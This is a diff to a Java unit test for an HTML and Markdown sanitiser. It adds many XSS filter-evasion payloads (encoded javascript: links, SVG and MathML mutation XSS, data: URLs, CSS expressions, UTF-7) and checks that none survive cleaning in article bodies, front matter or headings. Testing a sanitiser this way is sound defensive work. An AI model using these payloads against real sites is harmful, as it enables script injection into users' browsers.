@@ -30,7 +30,9 @@ import org.junit.jupiter.params.provider.MethodSource;
 /**
  * Hostile markup in the style of the OWASP XSS filter evasion cheat sheet, inside the article of a web page (and
  * of Markdown): after cleaning and rendering the article page, no script, frame, object, embed, form or style
- * element, no event handler and no address that is not http(s) may be left, while the report's text stays.
+ * element, no event handler and no address that is not http(s) may be left, while the report's text stays. Each
+ * payload also goes into the front matter (title, source, author, url) and a heading of a text scrape and of
+ * Markdown, and the same must hold.
  */
 class HostileMarkupTest {
     private static final String P1 = "Israeli Defense Minister Yoav Gallant departed for Washington on Sunday, at the "
@@ -114,7 +116,67 @@ class HostileMarkupTest {
                 "<a href=\"/relative/page\">relative link</a>",
                 "<p>&lt;script&gt;alert('escaped text')&lt;/script&gt;</p>",
                 "\"><script>alert(document.cookie)</script>",
-                "'';!--\"<XSS>=&{()}");
+                "'';!--\"<XSS>=&{()}",
+                "<svg><animate xlink:href=#xss attributeName=href values=\"javascript:alert(1)\"/>"
+                        + "<a id=xss><text x=20 y=20>animate link</text></a></svg>",
+                "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text x=20 y=20>set link</text></a></svg>",
+                "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+                "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(2)//\"></svg>",
+                "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x\"/></svg>",
+                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 "
+                        + "onerror=alert(1)&gt;\">",
+                "<math><mi xlink:href=\"javascript:alert(1)\">math xlink</mi></math>",
+                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+                "<noscript><p title=\"</noscript><img src=x onerror=alert(2)>\">",
+                "<a href=\"jav&#x0D;ascript:alert(1)\">encoded return link</a>",
+                "<a href=\"java&Tab;script:alert(1)\">named tab link</a>",
+                "<a href=\"javascript&colon;alert(1)\">named colon link</a>",
+                "<a href=javascript&colon;alert&lpar;1&rpar;>named parenthesis link</a>",
+                "<a href=\"&#x6A;avascript&#x3A;alert(1)\">partly encoded link</a>",
+                "<a href=\"javascript&#58alert(1)\">colon without semicolon link</a>",
+                "<a href=\"\u0001javascript:alert(1)\">leading control link</a>",
+                "<a href=\"javascript:\\u0061lert(1)\">unicode escape link</a>",
+                "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert(1)\">percent-encoded scheme link</a>",
+                "<a href=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">data url link</a>",
+                "<a href=\"http://xss.rocks/\"onmouseover=\"alert(1)\">no space between attributes</a>",
+                "<a href=\"https://ok.example/ onmouseover=alert(1) x=\">broken quote link</a>",
+                "<a href='javascript:alert(1)>unclosed single quote</a>",
+                "<BASE HREF=\"javascript:alert(1)//\"><a href=\"/after-base\">link after base</a>",
+                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
+                "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
+                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+                "<embed code=\"javascript:alert(1)\"></embed><applet code=\"xss.class\"></applet>",
+                "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
+                "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
+                "<div style=\"behavior: url(xss.htc);\">behavior</div>",
+                "<p style=\"background:url(&#1;javascript:alert(1))\">control in css url</p>",
+                "<div style=\"xss:expr/*XSS*/ession(alert('XSS'))\">expression with a comment</div>",
+                "<a href=\"https://ok.example/\" style=\"-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)\">moz binding</a>",
+                "<isindex type=image src=1 onerror=alert(1)>",
+                "<form><button formaction=javascript:alert(1)>form button</button></form>",
+                "<input type=\"image\" src=\"javascript:alert(1)\"><keygen autofocus onfocus=alert(1)>",
+                "<img srcset=\"javascript:alert(1) 1x, x 2x\" alt=\"srcset\">",
+                "<video poster=javascript:alert(1)></video>",
+                "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">cell</td></tr></table>",
+                "<body background=\"javascript:alert(1)\">",
+                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58"
+                        + "&#x53&#x53&#x27&#x29>",
+                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+                "<img alt=\"<script>alert(1)</script>\" src=\"https://ok.example/a.png\">",
+                "<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=java\u0000script:alert(1)>",
+                "<!-- <!-- nested --> <script>alert(1)</script> -->",
+                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+                "<a href=\"https://ok.example/\" <!-- onclick=alert(1) -->>comment inside a tag</a>",
+                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+                "<meta http-equiv=\"content-type\" content=\"text/html; charset=utf-7\">+ADw-script+AD4-alert(2)+ADw-/script+AD4-",
+                "<h2 onclick=alert(1)>A heading <script>alert(1)</script></h2>",
+                "<title><script>alert(1)</script></title>",
+                "<textarea><script>alert(1)</script></textarea><xmp><script>alert(2)</script></xmp>",
+                "<marquee onstart=alert(1)>marquee</marquee><frameset onload=alert(1)>",
+                "<a tabindex=1 onbeforecopy=alert(1) contenteditable>contenteditable</a>",
+                "[markdown link](javascript:alert(1)) and [angle](<javascript:alert(2)>) and [titled](JaVaScRiPt:alert(3) \"t\")",
+                "![alt <img src=x onerror=alert(1)>](javascript:alert(1)) and <javascript:alert(1)> autolink",
+                "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [vb](vbscript:msgbox(1))");
     }
 
     @TempDir
@@ -129,6 +191,15 @@ class HostileMarkupTest {
         for (int i = 0; i < payloads.size(); i++) {
             articles.add(clean("h" + i, Format.HTML, page(payloads.get(i))));
             articles.add(clean("m" + i, Format.MARKDOWN, P1 + "\n\n" + P2 + " " + payloads.get(i) + "\n\n" + P3 + "\n"));
+            // the same payload in every front matter field a page shows, of a text scrape and of Markdown
+            String payload = payloads.get(i);
+            FrontMatter stated = new FrontMatter("Gallant heads to US " + payload, payload, payload, null, payload,
+                    null, null);
+            String body = P1 + "\n\n" + P2 + " " + payload + "\n\n" + P3 + "\n";
+            articles.add(new Cleaner().clean(new RawReport("t" + i, "articles/t" + i + ".txt", Format.TEXT, stated,
+                    body, 1)));
+            articles.add(new Cleaner().clean(new RawReport("f" + i, "articles/f" + i + ".md", Format.MARKDOWN, stated,
+                    body + "\n## Closing heading " + payload + "\n", 1)));
         }
         site = tmp.resolve("site");
         SiteConfig config = new SiteConfig("Crosscheck", "Test", "", "en", 100);
@@ -155,7 +226,7 @@ class HostileMarkupTest {
     @ParameterizedTest(name = "payload {0}")
     @MethodSource("cases")
     void nothingExecutableSurvivesCleaningAndRendering(int index) throws IOException {
-        for (String id : List.of("h" + index, "m" + index)) {
+        for (String id : List.of("h" + index, "m" + index, "t" + index, "f" + index)) {
             Path file = site.resolve("articles").resolve(id).resolve("index.html");
             assertTrue(Files.isRegularFile(file), file.toString());
             Document doc = Jsoup.parse(Files.readString(file));
@@ -189,7 +260,11 @@ class HostileMarkupTest {
             String shown = text.text();
             assertTrue(shown.contains(P1) && shown.contains(P2.substring(0, 60)), where + " lost the report: " + shown);
             // an unclosed link goes on into the next paragraph, in a browser too: that one is then a link
-            if (!payloads().get(index).contains("unclosed")) assertTrue(shown.contains(P3), where + ": " + shown);
+            // and so does mutation XSS that leaves a <math> (its <style> a plain element, its "<!--" a comment) open
+            String payload = payloads().get(index);
+            if (!payload.contains("unclosed") && !payload.contains("<mglyph><style>")) {
+                assertTrue(shown.contains(P3), where + ": " + shown);
+            }
         }
     }
 
@@ -207,7 +282,7 @@ class HostileMarkupTest {
     @Test
     void aGoodLinkKeepsItsAddressAndGetsNofollowOnly() {
         Article article = articles.get(payloads().indexOf(payloads().stream()
-                .filter(p -> p.contains("a good link")).findFirst().orElseThrow()) * 2);
+                .filter(p -> p.contains("a good link")).findFirst().orElseThrow()) * 4);
         String markup = article.blocks().get(1).markup();
         assertTrue(markup.contains("<a href=\"https://ok.example/a?q=1&amp;r=2\" rel=\"nofollow noopener\">a good link</a>"),
                 markup);
